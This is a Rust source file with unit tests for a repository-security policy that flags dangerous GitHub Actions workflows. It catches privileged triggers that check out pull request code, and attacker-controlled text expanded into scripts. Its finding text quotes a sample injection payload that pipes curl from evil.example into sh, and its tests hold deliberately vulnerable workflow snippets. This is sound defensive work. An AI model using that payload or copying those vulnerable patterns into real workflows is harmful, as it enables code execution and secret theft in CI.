//! `dangerous-workflow`: untrusted code or text run with the repository's privileges.
//!
//! Two patterns, in workflows and composite actions:
//! - **untrusted checkout**: a `pull_request_target` or `workflow_run` workflow checks out
//!   the pull request's head (`github.event.pull_request.head.sha|ref`, `github.head_ref`,
//!   `refs/pull/*/merge`, the `workflow_run` head) and so runs the attacker's code with
//!   secrets and a write token;
//! - **template injection**: an attacker-controlled context (`workflow::expr`) expanded
//!   into a `run:` script or an `actions/github-script` `script:`, where it becomes code.
//!   Passing the value through `env:` and using `"$VAR"` is the fix and is not reported.
//!
//! - **privileged trigger**: a workflow triggered by `pull_request_target`, `workflow_run`
//!   or `issue_comment` (the triggers zizmor's *dangerous-triggers* names) with neither of
//!   the above: it runs with secrets and a write token on events anyone can cause, so it
//!   is reported at medium severity for an owner to review once and suppress
//!   (`accepted-risk`), unless the `privileged_triggers` option is `false`.
//!
//! A workflow file that does not parse is reported here too, with the parser's message and
//! line: what cannot be read cannot be shown safe.

use std::collections::BTreeMap;

use github_actions_models::common::Uses;

use super::workflows::{self, Document, Report, StepKind, WorkflowCheck, expr};
use super::{OptionError, PolicyOptions, parse_options};
use crate::domain::{Finding, Severity};

pub(crate) const ID: &str = "dangerous-workflow";

pub(crate) const REMEDIATION: &str = "\
A workflow that runs a pull request's code, or pastes attacker-written text into a \
script, hands the repository's secrets and write token to anyone who can open a pull \
request or an issue.

1. Never expand `${{ … }}` of attacker-controlled text (titles, bodies, branch names, \
commit messages, string inputs) inside `run:` or a `github-script` `script:`. Pass it \
through `env:` and use the variable, quoted: `env: TITLE: ${{ github.event.issue.title }}` \
then `run: echo \"$TITLE\"` (in `github-script`, `process.env.TITLE`).
2. In `pull_request_target` and `workflow_run` workflows, do not check out the pull \
request's head. Build untrusted code in a `pull_request` workflow without secrets, and \
pass results to the privileged workflow as artifacts treated as data.
3. Give the token only the permissions the job needs (`permissions:`).

See [Security hardening for GitHub Actions](https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections) \
and [Keeping your GitHub Actions and workflows secure: preventing pwn requests](https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/).";

/// Text in a checkout's `ref:`/`repository:` or a script that selects the pull request head.
const HEAD_MARKERS: &[&str] = &[
    "github.event.pull_request.head.sha",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.repo.full_name",
    "github.event.pull_request.merge_commit_sha",
    "github.head_ref",
    "refs/pull/",
    "github.event.workflow_run.head_sha",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.head_repository.full_name",
    "github.event.workflow_run.head_commit.id",
];

/// Triggers that run with the base repository's secrets and a write token on events
/// anyone can cause (a pull request from a fork, a comment).
const PRIVILEGED_TRIGGERS: &[&str] = &["pull_request_target", "workflow_run", "issue_comment"];

/// The policy's options.
#[derive(Debug, Clone, serde::Deserialize)]
#[serde(default, deny_unknown_fields)]
struct Options {
    /// Report workflows on privileged triggers even when no dangerous step is found.
    privileged_triggers: bool,
}

impl Default for Options {
    fn default() -> Self {
        Options {
            privileged_triggers: true,
        }
    }
}

/// Shell commands that fetch or check out a pull request's code.
const CHECKOUT_COMMANDS: &[&str] = &["gh pr checkout", "git fetch origin pull/", "pull/${{"];

pub struct DangerousWorkflow;

impl WorkflowCheck for DangerousWorkflow {
    const ID: &'static str = ID;
    const DESCRIPTION: &'static str = "Workflows never run a pull request's code with privileges, nor expand attacker-controlled text into scripts.";
    const SEVERITY: Severity = Severity::Critical;

    fn validate(&self, options: &PolicyOptions) -> Result<(), OptionError> {
        parse_options::<Options>(options).map(drop)
    }

    fn check(&self, report: &Report<'_>, options: &PolicyOptions) -> Vec<Finding> {
        // Options are validated at start-up; should invalid ones slip through, the
        // stricter default applies.
        let options: Options = parse_options(options).unwrap_or_default();
        let source = report.source;
        if let Document::Invalid {
            message,
            line,
            column,
        } = &source.document
        {
            return vec![Self::invalid(report, message, (*line, *column))];
        }
        let mut out = Self::untrusted_checkouts(report);
        out.extend(Self::injections(report));
        // The specific findings already explain the trigger's danger.
        if out.is_empty() && options.privileged_triggers {
            out.extend(Self::privileged_trigger(report));
        }
        out
    }
}

impl DangerousWorkflow {
    fn invalid(report: &Report<'_>, message: &str, at: (u32, u32)) -> Finding {
        let source = report.source;
        let details = format!(
            "`{}` is not a valid GitHub Actions file, so GitHub will not run it as written \
             and it cannot be checked for dangerous patterns.\n\n- Parser: {message}\n\n{}",
            source.path,
            source.quote(&[at.0])
        );
        report.finding(
            &format!("invalid:{}", source.path),
            format!("Workflow `{}` does not parse", source.path),
            details,
            format!(
                "Fix the syntax at line {} of `{}` (for example with `actionlint`), then \
                 re-run the check.\n\n{REMEDIATION}",
                at.0, source.path
            ),
            at,
        )
    }

    /// A workflow on a privileged trigger with no dangerous step found: worth one review.
    fn privileged_trigger(report: &Report<'_>) -> Option<Finding> {
        let source = report.source;
        let Document::Workflow(workflow) = &source.document else {
            return None;
        };
        let events = &workflow.on.events;
        let present = [
            events.pull_request_target.is_present(),
            events.workflow_run.is_present(),
            events.issue_comment.is_present(),
        ];
        let triggers: Vec<&str> = PRIVILEGED_TRIGGERS
            .iter()
            .zip(present)
            .filter_map(|(t, on)| on.then_some(*t))
            .collect();
        if triggers.is_empty() || Self::only_labels(source, &triggers) {
            return None;
        }
        let whole = source.locator.whole();
        let on = source.locator.child(&whole, "on").unwrap_or(whole);
        let at = triggers
            .iter()
            .find_map(|t| source.locator.find(&on, t))
            .unwrap_or_else(|| source.locator.start_of(&on));
        let details = format!(
            "`{}` runs on {}: the workflow gets the repository's secrets and a token that \
             can write, on events that anyone who can open a pull request or write a \
             comment can cause. No checkout of pull request code and no attacker text \
             expanded into a script was found, so this is not known to be exploitable; \
             it is reported once so that someone reviews it, because a later edit that \
             adds either turns it into a takeover.\n\n{}",
            source.path,
            workflows::code_list(triggers.iter().copied()),
            source.quote(&[at.0])
        );
        let mut finding = report.finding(
            &format!("privileged-trigger:{}", source.path),
            format!(
                "`{}` runs with privileges on {}",
                source.path,
                triggers.join(", ")
            ),
            details,
            format!(
                "1. If the workflow needs neither secrets nor a write token, use `pull_request` \
                 (or `issue_comment` without secrets) instead.\n\
                 2. Otherwise give its token only the permissions it needs (`permissions:`), \
                 never check out or run the pull request's code, and pass event text to \
                 scripts only through `env:`.\n\
                 3. Once reviewed, suppress this finding in `.github/repo-guardian.yml` with \
                 `reason: accepted-risk` and a note saying why the trigger is needed; the \
                 other `dangerous-workflow` findings still apply to the file.\n\n{REMEDIATION}"
            ),
            at,
        );
        finding.severity = Severity::Medium;
        Some(finding)
    }

    /// `actions/labeler` on `pull_request_target` is the use GitHub documents for the
    /// trigger: it reads the changed paths through the API and runs nothing of the pull
    /// request. A workflow that does only that is not worth a review (zizmor agrees).
    fn only_labels(source: &workflows::Source<'_>, triggers: &[&str]) -> bool {
        let steps = source.steps();
        triggers == ["pull_request_target"]
            && !steps.is_empty()
            && steps.iter().all(|step| {
                matches!(&step.kind, StepKind::Uses { uses: Uses::Repository(r), .. }
                    if r.slug().eq_ignore_ascii_case("actions/labeler"))
            })
    }

    fn untrusted_checkouts(report: &Report<'_>) -> Vec<Finding> {
        let source = report.source;
        let Document::Workflow(workflow) = &source.document else {
            return Vec::new();
        };
        let events = &workflow.on.events;
        let trigger = if events.pull_request_target.is_present() {
            "pull_request_target"
        } else if events.workflow_run.is_present() {
            "workflow_run"
        } else {
            return Vec::new();
        };
        // One finding per job, at its first checkout of the head.
        let mut per_job: BTreeMap<&str, (u32, u32)> = BTreeMap::new();
        for step in source.steps() {
            let Some(job) = step.job else { continue };
            let hit = match &step.kind {
                StepKind::Uses {
                    uses: Uses::Repository(r),
                    with,
                } if r.slug().eq_ignore_ascii_case("actions/checkout") => ["ref", "repository"]
                    .iter()
                    .filter_map(|k| workflows::with_str(*with, k))
                    .find(|v| HEAD_MARKERS.iter().any(|m| v.contains(m)))
                    .map(|v| v.to_owned()),
                StepKind::Run(script) => script
                    .lines()
                    .find(|l| {
                        CHECKOUT_COMMANDS.iter().any(|c| l.contains(c))
                            || (l.contains("git checkout")
                                && HEAD_MARKERS.iter().any(|m| l.contains(m)))
                    })
                    .map(|l| l.trim().to_owned()),
                _ => None,
            };
            if let Some(text) = hit {
                let at = source
                    .locator
                    .find(&step.region, &text)
                    .unwrap_or_else(|| source.locator.start_of(&step.region));
                per_job.entry(job).or_insert(at);
            }
        }
        per_job
            .into_iter()
            .map(|(job, at)| {
                let details = format!(
                    "Job `{job}` of `{}` runs on `{trigger}`, which has access to secrets and a \
                     write token, and checks out the pull request's head: code from the \
                     pull request runs with those privileges.\n\n{}",
                    source.path,
                    source.quote(&[at.0])
                );
                report.finding(
                    &format!("untrusted-checkout:{}:{job}", source.path),
                    format!("`{}` runs pull request code with privileges", source.path),
                    details,
                    REMEDIATION.to_owned(),
                    at,
                )
            })
            .collect()
    }

    fn injections(report: &Report<'_>) -> Vec<Finding> {
        let source = report.source;
        let fixed_inputs = source.fixed_inputs();
        let inputs = fixed_inputs.as_slice();
        // (job, context) → where and how it is expanded.
        let mut found: BTreeMap<(String, String), Injection> = BTreeMap::new();
        for step in source.steps() {
            let (script, github_script) = match &step.kind {
                StepKind::Run(run) => (*run, false),
                StepKind::Uses {
                    uses: Uses::Repository(r),
                    with,
                } if r.slug().eq_ignore_ascii_case("actions/github-script") => {
                    match workflows::with_str(*with, "script") {
                        Some(script) => (script, true),
                        None => continue,
                    }
                }
                _ => continue,
            };
            for e in expr::expressions(script) {
                for context in expr::tainted(e.inner, inputs) {
                    let at = source
                        .locator
                        .find(&step.region, e.raw)
                        .unwrap_or_else(|| source.locator.start_of(&step.region));
                    let entry = found
                        .entry((step.job.unwrap_or_default().to_owned(), context))
                        .or_insert_with(|| Injection {
                            places: Vec::new(),
                            raw: e.raw.to_owned(),
                            github_script,
                        });
                    if !entry.places.contains(&at) {
                        entry.places.push(at);
                    }
                }
            }
        }
        found
            .into_iter()
            .map(|((job, context), injection)| {
                let Injection {
                    mut places,
                    raw,
                    github_script,
                } = injection;
                places.sort();
                let first = places[0];
                let lines: Vec<u32> = places.iter().map(|p| p.0).collect();
                let var = env_name(&context);
                let usage = if github_script {
                    format!("process.env.{var}")
                } else {
                    format!("\"${var}\"")
                };
                let scope = if job.is_empty() {
                    "this composite action".to_owned()
                } else {
                    format!("job `{job}`")
                };
                let details = format!(
                    "`{context}` is chosen by whoever triggers the workflow, and {scope} expands \
                     it with `{raw}` directly into a script, where text such as \
                     `\"; curl evil.example | sh; \"` becomes code.\n\n{}\n\nFix: pass it \
                     through the environment and use the variable, quoted:\n\n```yaml\n\
                     env:\n  {var}: {raw}\n```\n\nthen use `{usage}` in place of `{raw}`.",
                    source.quote(&lines)
                );
                let key = if job.is_empty() {
                    format!("injection:{}:{context}", source.path)
                } else {
                    format!("injection:{}:{job}:{context}", source.path)
                };
                report.finding(
                    &key,
                    format!("`{}` expands `{context}` into a script", source.path),
                    details,
                    REMEDIATION.to_owned(),
                    first,
                )
            })
            .collect()
    }
}

/// Where and how one context is expanded into scripts of one job.
struct Injection {
    /// 1-based (line, column) of each expansion.
    places: Vec<(u32, u32)>,
    /// The first expression, as written.
    raw: String,
    /// Expanded into `actions/github-script` (JavaScript) rather than a shell.
    github_script: bool,
}

/// An environment variable name for a context: its last two segments, upper-case.
fn env_name(context: &str) -> String {
    let parts: Vec<&str> = context
        .split('.')
        .filter(|p| *p != "*" && *p != "github" && *p != "event")
        .collect();
    let tail = &parts[parts.len().saturating_sub(2)..];
    let name = tail.join("_").to_ascii_uppercase().replace('-', "_");
    if name.is_empty() {
        "UNTRUSTED".to_owned()
    } else {
        name
    }
}

#[cfg(test)]
mod tests {
    use super::super::test_support::{keys, snapshot};
    use super::super::workflows::Workflows;
    use super::super::{Policy, PolicyOptions};
    use super::*;

    fn check(path: &str, yaml: &str) -> Vec<String> {
        keys(
            &Workflows(DangerousWorkflow),
            &snapshot().file(path, yaml).build(),
        )
    }

    fn workflow(yaml: &str) -> Vec<String> {
        check(".github/workflows/w.yml", yaml)
    }

    #[test]
    fn injection_into_run_and_github_script() {
        let keys = workflow(
            "on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      \
             - run: echo \"${{ github.event.issue.title }}\"\n      \
             - uses: actions/github-script@v7\n        with:\n          \
             script: console.log(\"${{ github.event.issue.body }}\")\n",
        );
        assert_eq!(
            keys,
            [
                "injection:.github/workflows/w.yml:triage:github.event.issue.body",
                "injection:.github/workflows/w.yml:triage:github.event.issue.title"
            ]
        );
    }

    #[test]
    fn env_indirection_numbers_and_booleans_are_fine() {
        let keys = workflow(
            "on: [issues, pull_request]\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      \
             - run: echo \"$TITLE\" ${{ github.event.issue.number }} ${{ github.event.pull_request.draft }}\n        \
             env:\n          TITLE: ${{ github.event.issue.title }}\n      \
             - if: github.event.issue.title == 'x'\n        run: echo ${{ matrix.os }}\n",
        );
        assert!(keys.is_empty(), "{keys:?}");
    }

    #[test]
    fn inputs_are_injection_only_when_strings() {
        let keys = workflow(
            "on:\n  workflow_dispatch:\n    inputs:\n      name:\n        type: string\n      \
             count:\n        type: number\n      dry:\n        type: boolean\njobs:\n  a:\n    \
             runs-on: ubuntu-latest\n    steps:\n      \
             - run: echo ${{ inputs.count }} ${{ inputs.dry }} ${{ inputs.name }}\n",
        );
        assert_eq!(keys, ["injection:.github/workflows/w.yml:a:inputs.name"]);
    }

    #[test]
    fn anchors_and_aliases_are_followed() {
        let source = "on: issue_comment\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      \
             - &greet\n        run: echo \"${{ github.event.comment.body }}\"\n  b:\n    \
             runs-on: ubuntu-latest\n    steps:\n      - *greet\n";
        let snap = snapshot().file(".github/workflows/w.yml", source).build();
        let findings = Workflows(DangerousWorkflow).evaluate(&snap, &PolicyOptions::new());
        let keys: Vec<_> = findings.iter().map(|f| f.key.as_str()).collect();
        assert_eq!(
            keys,
            [
                "injection:.github/workflows/w.yml:a:github.event.comment.body",
                "injection:.github/workflows/w.yml:b:github.event.comment.body"
            ]
        );
        // The alias has no text of its own: both point at the anchor's line.
        for f in &findings {
            let at = f.location.as_ref().expect("located");
            assert_eq!((at.line, at.column), (7, 20), "{}", f.key);
        }
    }

    #[test]
    fn composite_actions_and_their_inputs() {
        let keys = check(
            "setup/action.yml",
            "name: setup\ninputs:\n  version:\n    description: v\nruns:\n  using: composite\n  \
             steps:\n    - run: echo ${{ inputs.version }}\n      shell: bash\n",
        );
        assert_eq!(keys, ["injection:setup/action.yml:inputs.version"]);
    }

    #[test]
    fn comments_that_look_like_expressions_are_not_code() {
        let keys = workflow(
            "# run: echo ${{ github.event.issue.title }}\non: issues\njobs:\n  a:\n    \
             runs-on: ubuntu-latest\n    steps:\n      - run: echo ok # ${{ github.event.issue.title }}\n",
        );
        // The trailing `#` is inside a plain scalar, so it is a YAML comment as well.
        assert!(keys.is_empty(), "{keys:?}");
    }

    #[test]
    fn untrusted_checkout_under_privileged_triggers() {
        let checkout = "jobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      \
             - uses: actions/checkout@v4\n        with:\n          \
             ref: ${{ github.event.pull_request.head.sha }}\n      - run: make test\n";
        assert_eq!(
            workflow(&format!("on: pull_request_target\n{checkout}")),
            ["untrusted-checkout:.github/workflows/w.yml:test"]
        );
        assert!(workflow(&format!("on: pull_request\n{checkout}")).is_empty());
        let run = "on:\n  workflow_run:\n    workflows: [ci]\njobs:\n  a:\n    runs-on: x\n    \
             steps:\n      - run: gh pr checkout ${{ github.event.workflow_run.pull_requests[0].number }}\n";
        assert_eq!(
            workflow(run),
            ["untrusted-checkout:.github/workflows/w.yml:a"]
        );
        let base_only = "on: pull_request_target\njobs:\n  label:\n    runs-on: x\n    \
             steps:\n      - uses: actions/checkout@v4\n      - run: echo labelling\n";
        // Checking out the base is not running the pull request's code: only the trigger
        // itself is reported.
        assert_eq!(
            workflow(base_only),
            ["privileged-trigger:.github/workflows/w.yml"]
        );
    }

    #[test]
    fn privileged_triggers_alone_are_one_medium_finding_unless_switched_off() {
        use super::super::test_support::{keys_with, options};
        let labeler = "name: label\non:\n  pull_request_target:\n    types: [opened]\n\
             permissions:\n  pull-requests: write\njobs:\n  label:\n    runs-on: x\n    \
             steps:\n      - uses: actions/first-interaction@v1\n";
        let snap = snapshot().file(".github/workflows/w.yml", labeler).build();
        let findings = Workflows(DangerousWorkflow).evaluate(&snap, &PolicyOptions::new());
        assert_eq!(findings.len(), 1, "{findings:?}");
        assert_eq!(
            findings[0].key,
            "privileged-trigger:.github/workflows/w.yml"
        );
        assert_eq!(findings[0].severity, Severity::Medium);
        let at = findings[0].location.as_ref().expect("located");
        assert_eq!((at.line, at.column), (3, 3), "points at the trigger");
        assert!(findings[0].remediation.contains("accepted-risk"));
        let off = keys_with(
            &Workflows(DangerousWorkflow),
            &snap,
            &options(serde_json::json!({ "privileged_triggers": false })),
        );
        assert!(off.is_empty(), "{off:?}");
        // Only `actions/labeler` on `pull_request_target` is the documented safe use.
        assert!(workflow(&labeler.replace("first-interaction@v1", "labeler@v5")).is_empty());
        // A comment bot is privileged too; a `pull_request` workflow is not.
        assert_eq!(
            workflow(
                "on: issue_comment\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: echo hi\n"
            ),
            ["privileged-trigger:.github/workflows/w.yml"]
        );
        assert!(
            workflow(
                "on: pull_request\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: echo hi\n"
            )
            .is_empty()
        );
        // The specific finding replaces the general one.
        assert_eq!(
            workflow(
                "on: issue_comment\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: echo \"${{ github.event.comment.body }}\"\n"
            ),
            ["injection:.github/workflows/w.yml:a:github.event.comment.body"]
        );
        assert!(
            Workflows(DangerousWorkflow)
                .validate_options(&options(serde_json::json!({ "privileged_triggers": "no" })))
                .is_err()
        );
    }

    #[test]
    fn an_unparsable_workflow_is_one_finding_with_the_parsers_line() {
        let snap = snapshot()
            .file(
                ".github/workflows/bad.yml",
                "on: push\njobs:\n  a:\n    steps: {{\n",
            )
            .build();
        let findings = Workflows(DangerousWorkflow).evaluate(&snap, &PolicyOptions::new());
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].key, "invalid:.github/workflows/bad.yml");
        assert!(findings[0].details.contains("Parser: "));
        assert!(findings[0].location.as_ref().is_some_and(|l| l.line >= 4));
    }

    #[test]
    fn the_fix_is_spelled_out_and_fingerprints_ignore_lines() {
        let body = "on: issues\njobs:\n  a:\n    runs-on: x\n    steps:\n      \
             - run: echo \"${{ github.event.issue.title }}\"\n";
        let snap = |prefix: &str| {
            snapshot()
                .file(".github/workflows/w.yml", &format!("{prefix}{body}"))
                .build()
        };
        let before = Workflows(DangerousWorkflow).evaluate(&snap(""), &PolicyOptions::new());
        let after = Workflows(DangerousWorkflow)
            .evaluate(&snap("name: renamed\n\n"), &PolicyOptions::new());
        assert_eq!(before[0].fingerprint(), after[0].fingerprint());
        assert_eq!(before[0].location.as_ref().map(|l| l.line), Some(6));
        assert_eq!(after[0].location.as_ref().map(|l| l.line), Some(8));
        assert!(
            before[0]
                .details
                .contains("ISSUE_TITLE: ${{ github.event.issue.title }}")
        );
        assert!(before[0].details.contains("\"$ISSUE_TITLE\""));
        assert!(before[0].details.contains("   6 | "));
    }
}
